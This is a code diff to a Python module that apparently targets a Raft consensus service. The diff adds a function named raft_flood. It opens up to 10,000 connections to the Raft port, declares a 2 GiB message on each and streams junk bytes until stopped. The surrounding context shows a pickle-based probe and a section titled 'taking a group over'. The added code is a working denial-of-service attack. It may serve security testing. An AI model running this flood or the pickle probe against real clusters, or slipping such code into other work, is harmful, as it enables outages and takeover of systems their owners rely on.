@@ -16,6 +16,7 @@ import os
 import pickle
 import socket
 import struct
+import threading
 import time
 import zlib
 from pathlib import Path
@@ -70,6 +71,32 @@ def raft_pickle(address: str, marker: Path, timeout_s: float = 5.0) -> str:
             except OSError as exc:
                 return f"the connection ended: {exc}"
     return f"the peer kept the connection open for {timeout_s:.0f} s"
+
+
+def raft_flood(
+    address: str, stop: threading.Event, chunk_bytes: int = 64 * 1024
+) -> tuple[int, int]:
+    """Announce a 2 GiB message on the Raft port and send junk behind it, over and over
+    (a new connection each time the peer drops one) until ``stop``. Returns (connections,
+    the most bytes one connection got out before the peer dropped it)."""
+    host, port = address.rsplit(":", 1)
+    connections = most = 0
+    junk = bytes(chunk_bytes)
+    while not stop.is_set() and connections < 10_000:
+        sent = 0
+        with socket.socket() as sock:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, chunk_bytes)
+            sock.settimeout(1.0)
+            try:
+                sock.connect((host, int(port)))
+                connections += 1
+                sent += sock.send(struct.pack("i", 2**31 - 1) + junk)
+                while not stop.is_set() and sent < 64 * 1024 * 1024:
+                    sent += sock.send(junk)
+            except OSError:  # dropped (reset, broken pipe) or stalled past the timeout
+                pass
+        most = max(most, sent)
+    return connections, most
 
 
 # --- 2. taking a group over -------------------------------------------------------------------
